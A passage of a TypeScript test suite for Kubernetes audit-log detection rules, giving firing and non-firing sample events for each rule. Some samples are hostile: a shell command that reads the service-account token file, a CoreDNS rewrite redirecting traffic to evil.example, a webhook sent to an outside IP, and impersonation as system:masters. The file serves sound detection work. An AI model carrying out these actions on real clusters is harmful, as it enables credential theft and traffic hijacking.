        }),
    },
    misses: {
      'the workload itself (client-go)': () =>
        auditEvent({
          verb: 'list',
          resource: 'configmaps',
          namespace: 'argocd',
          userAgent: 'argocd-application-controller/v2.13.1 (linux/amd64) kubernetes/9a4d4b9',
          user: { username: 'system:serviceaccount:argocd:argocd-application-controller' },
        }),
      'a person with kubectl': () =>
        auditEvent({ verb: 'list', resource: 'pods', namespace: 'shop' }),
    },
  },
  {
    rule: 'Cluster-Wide Secret Listing',
    fires: {
      'list all secrets': () =>
        auditEvent({ verb: 'list', resource: 'secrets', uri: '/api/v1/secrets?limit=500' }),
    },
    misses: {
      'list one namespace': () =>
        auditEvent({ verb: 'list', resource: 'secrets', namespace: 'shop' }),
    },
  },
  {
    rule: 'Burst Of Secret Reads',
    fires: {
      'a secret read (counted per distinct name)': () =>
        auditEvent({ verb: 'get', resource: 'secrets', namespace: 'shop', name: 'db-password' }),
    },
    misses: {
      'helm release secret': () =>
        auditEvent({
          verb: 'get',
          resource: 'secrets',
          namespace: 'shop',
          name: 'sh.helm.release.v1.shop.v3',
        }),
    },
  },
  {
    rule: 'Service Account Token Requested',
    fires: {
      'kubectl create token': () =>
        auditEvent({
          verb: 'create',
          resource: 'serviceaccounts',
          subresource: 'token',
          namespace: 'kube-system',
          name: 'clusterrole-aggregation-controller',
          requestObject: { kind: 'TokenRequest', spec: { expirationSeconds: 315360000 } },
        }),
    },
    misses: {
      'the kubelet projects a token': () =>
        auditEvent({
          verb: 'create',
          resource: 'serviceaccounts',
          subresource: 'token',
          namespace: 'shop',
          name: 'api',
          user: { username: 'system:node:n1', groups: ['system:nodes'] },
        }),
    },
  },
  {
    rule: 'Privileged Identity Impersonated',
    fires: {
      'as system:masters': () =>
        auditEvent({
          verb: 'list',
          resource: 'secrets',
          namespace: 'kube-system',
          user: BOB,
          impersonatedUser: { username: 'intruder', groups: ['system:masters'] },
        }),
      'as system:admin': () =>
        auditEvent({
          verb: 'get',
          resource: 'nodes',
          name: 'n1',
          user: BOB,
          impersonatedUser: { username: 'system:admin' },
        }),
    },
    misses: {
      'system:admin impersonating bob (corpus)': () => real('liggitt-audit2rbac/demo.log', 0),
    },
  },
  {
    rule: 'Anonymous Write Allowed',
    fires: {
      'anonymous namespace creation (corpus)': () =>
        real('falcosecurity-falco/anonymous_creates_namespace_foo.json'),
    },
    misses: {
      'anonymous read': () =>
        auditEvent({ verb: 'get', resource: 'namespaces', name: 'default', user: ANONYMOUS }),
    },
  },
  {
    rule: 'Burst Of Denied Requests By User',
    fires: {
      'a 403 (counted per user)': () =>
        auditEvent({ verb: 'list', resource: 'pods', namespace: 'kube-system', code: 403 }),
    },
    misses: {
      'a 404': () =>
        auditEvent({ verb: 'get', resource: 'pods', namespace: 'shop', name: 'gone', code: 404 }),
    },
  },
  {
    rule: 'Burst Of Denied Requests From Address',
    fires: {
      'a 401 (counted per address)': () =>
        auditEvent({ verb: 'get', uri: '/api', code: 401, user: { username: '', groups: [] } }),
    },
    misses: { 'a 200': () => auditEvent({ verb: 'get', uri: '/api' }) },
  },
  {
    rule: 'Certificate Signing Request Created',
    fires: {
      'a person submits a CSR': () =>
        auditEvent({
          verb: 'create',
          resource: 'certificatesigningrequests',
          name: 'me',
          requestObject: {
            kind: 'CertificateSigningRequest',
            spec: {
              signerName: 'kubernetes.io/kube-apiserver-client',
              request: 'LS0t',
              usages: ['client auth'],
            },
          },
        }),
    },
    misses: {
      'a bootstrapping kubelet': () =>
        auditEvent({
          verb: 'create',
          resource: 'certificatesigningrequests',
          name: 'node-csr-x',
          user: { username: 'system:bootstrap:abcdef', groups: ['system:bootstrappers'] },
        }),
    },
  },
  {
    rule: 'Certificate Signing Request Approved',
    fires: {
      'kubectl certificate approve': () =>
        auditEvent({
          verb: 'update',
          resource: 'certificatesigningrequests',
          subresource: 'approval',
          name: 'me',
        }),
    },
    misses: {
      'approved by the controller manager': () =>
        auditEvent({
          verb: 'update',
          resource: 'certificatesigningrequests',
          subresource: 'approval',
          name: 'node-csr-x',
          user: { username: 'system:kube-controller-manager' },
        }),
    },
  },
  {
    rule: 'Admission Webhook Configuration Changed',
    fires: {
      'mutating webhook created': () =>
        auditEvent({
          verb: 'create',
          resource: 'mutatingwebhookconfigurations',
          name: 'inject',
          requestObject: {
            kind: 'MutatingWebhookConfiguration',
            webhooks: [{ name: 'x.example.com', clientConfig: { url: 'https://198.51.100.9/' } }],
          },
        }),
    },
    misses: {
      'cert-manager injecting its CA bundle': () =>
        auditEvent({
          verb: 'patch',
          resource: 'validatingwebhookconfigurations',
          name: 'cert-manager-webhook',
          user: { username: 'system:serviceaccount:cert-manager:cert-manager-cainjector' },
        }),
    },
  },
  {
    rule: 'Cluster DNS Configuration Changed',
    fires: {
      'coredns edited': () =>
        auditEvent({
          verb: 'patch',
          resource: 'configmaps',
          namespace: 'kube-system',
          name: 'coredns',
          requestObject: { data: { Corefile: '.:53 { rewrite name api.shop.svc evil.example }' } },
        }),
    },
    misses: {
      'AKS creating coredns-custom (corpus)': () => real('sysdiglabs-aks-audit-log/event.json', 0),
    },
  },
  {
    rule: 'EKS aws-auth Changed',
    fires: {
      'aws-auth patched': () =>
        auditEvent({
          verb: 'patch',
          resource: 'configmaps',
          namespace: 'kube-system',
          name: 'aws-auth',
          userAgent: 'kubectl/v1.31.2',
          user: { username: 'arn:aws:iam::111122223333:user/dev' },
        }),
    },
    misses: {
      'aws-auth read': () =>
        auditEvent({
          verb: 'get',
          resource: 'configmaps',
          namespace: 'kube-system',
          name: 'aws-auth',
        }),
    },
  },
  {
    rule: 'Kubernetes Events Deleted',
    fires: {
      'events deleted': () =>
        auditEvent({ verb: 'deletecollection', resource: 'events', namespace: 'shop' }),
    },
    misses: {
      'namespace controller cleanup': () =>
        auditEvent({
          verb: 'deletecollection',
          resource: 'events',
          namespace: 'shop',
          user: { username: 'system:serviceaccount:kube-system:namespace-controller' },
        }),
    },
  },
  {
    rule: 'Kubelet API Proxied',
    fires: {
      'pods listed through the kubelet': () =>
        auditEvent({
          verb: 'get',
          resource: 'nodes',
          subresource: 'proxy',
          name: 'n1',
          uri: '/api/v1/nodes/n1/proxy/pods',
        }),
    },
    misses: {
      'metrics scrape': () =>
        auditEvent({
          verb: 'get',
          resource: 'nodes',
          subresource: 'proxy',
          name: 'n1',
          uri: '/api/v1/nodes/n1/proxy/metrics/cadvisor',
        }),
    },
  },
  {
    rule: 'Role Grants Escalation Rights',
    fires: {
      'impersonate verb': () =>
        auditEvent({
          verb: 'create',
          resource: 'clusterroles',
          name: 'r',
          requestObject: role('ClusterRole', 'r', [
            { apiGroups: [''], resources: ['users', 'groups'], verbs: ['impersonate'] },
          ]),
        }),
      'serviceaccounts/token': () =>
        auditEvent({
          verb: 'patch',
          resource: 'roles',
          namespace: 'shop',
          name: 'r',
          requestObject: role('Role', 'r', [
            { apiGroups: [''], resources: ['serviceaccounts/token'], verbs: ['create'] },
          ]),
        }),
    },
    misses: { 'a reader role (corpus)': () => real('falcosecurity-falco/create_clusterrole.json') },
  },
  {
    rule: 'CronJob Or Job Changed',
    fires: {
      'cronjob created': () =>
        auditEvent({
          verb: 'create',
          resource: 'cronjobs',
          namespace: 'shop',
          name: 'c',
          requestObject: workload('CronJob', 'c', podSpec()),
        }),
    },
    misses: {
      'the cronjob controller creating its Job': () =>
        auditEvent({
          verb: 'create',
          resource: 'jobs',
          namespace: 'shop',
          name: 'c-123',
          user: { username: 'system:serviceaccount:kube-system:cronjob-controller' },
        }),
    },
  },
  {
    rule: 'Permission Enumeration',
    fires: {
      'kubectl auth can-i --list': () =>
        auditEvent({
          verb: 'create',
          resource: 'selfsubjectrulesreviews',
          requestObject: { kind: 'SelfSubjectRulesReview', spec: { namespace: 'default' } },
        }),
    },
    misses: {
      'a single can-i': () => auditEvent({ verb: 'create', resource: 'selfsubjectaccessreviews' }),
    },
  },
  {
    rule: 'Offensive Tool User Agent',
    fires: {
      trufflehog: () =>
        auditEvent({
          verb: 'list',
          resource: 'secrets',
          namespace: 'shop',
          userAgent: 'trufflehog/3.63.0',
        }),
    },
    misses: { kubectl: () => auditEvent({ verb: 'list', resource: 'secrets', namespace: 'shop' }) },
  },
];

const ruleset = defaultRulesetAllEnabled();
const matches = (event: Json): string[] =>
  ruleset.evaluate({ event, cluster: 'prod' }).map((r) => r.name);

// A user who adds Falco's own k8saudit file (RULES_FILES) redefines macros of the same name
// (kevt, pod, secret, node, response_successful, ...): ours must behave the same under theirs.
const withFalcosFile = defaultRulesetAllEnabled([falcoRulesFile()]);

beforeAll(async () => {
  corpus = await loadCorpus();
});

describe.each([
  ['default rules', ruleset],
  ["default rules + Falco's k8s_audit_rules.yaml", withFalcosFile],
] as const)('%s', (_label, rules) => {
  const names = (event: Json): string[] =>
    rules.evaluate({ event, cluster: 'prod' }).map((r) => r.name);
  describe.each(CASES)('$rule', ({ rule, fires, misses }) => {
    it.each(Object.entries(fires))('fires: %s', (_l, make) => {
      expect(names(make())).toContain(rule);
    });
    it.each(Object.entries(misses))('does not fire: %s', (_l, make) => {
      expect(names(make())).not.toContain(rule);
    });
  });
});

describe('the table', () => {
  it('has a firing and a non-firing case for every rule of rules/*.yaml', () => {
    const covered = new Map(CASES.map((c) => [c.rule, c]));
    const missing = ruleset.rules
      .map((r) => r.name)
      .filter((name) => {
        const c = covered.get(name);
        return !c || Object.keys(c.fires).length === 0 || Object.keys(c.misses).length === 0;
      });
    expect(missing).toEqual([]);
    const unknown = CASES.map((c) => c.rule).filter(
      (n) => !ruleset.rules.some((r) => r.name === n),
    );
    expect(unknown).toEqual([]);
  });

  it('every output renders the user, the cluster and no unresolved field', () => {
    for (const c of CASES) {
      const event = Object.values(c.fires)[0]();
      const rule = ruleset.evaluate({ event, cluster: 'prod' }).find((r) => r.name === c.rule);
      expect(rule).toBeDefined();
      const text = rule!.output({ event, cluster: 'prod' });
      expect(text).toContain('prod');
      expect(text).not.toMatch(/%[a-z]/);
      const user = (event.user as { username?: string } | undefined)?.username;
      if (user)
        expect({ rule: c.rule, names: text.includes(user) }).toEqual({ rule: c.rule, names: true });
    }
  });

  it('exec outputs show the whole command, decoded', () => {
    const event = exec(['sh', '-c', 'cat /var/run/secrets/kubernetes.io/serviceaccount/token']);
    const outputs = ruleset
      .evaluate({ event, cluster: 'prod' })
      .filter((r) =>
        [
          'Exec Reads Credentials',
          'Exec Or Attach Into Pod',
          'First Exec By User Into Namespace',
        ].includes(r.name),
      )
      .map((r) => r.output({ event, cluster: 'prod' }));
    expect(outputs).toHaveLength(3);
    for (const text of outputs)
      expect(text).toContain(
        'command=sh -c cat /var/run/secrets/kubernetes.io/serviceaccount/token ',
      );
  });

  it('alice and the actors used here are not allow-listed or platform identities', () => {
    expect(
      matches(
        auditEvent({ verb: 'get', resource: 'secrets', namespace: 'shop', name: 'x', user: ALICE }),
      ),
    ).toContain('Secret Read');
  });
});
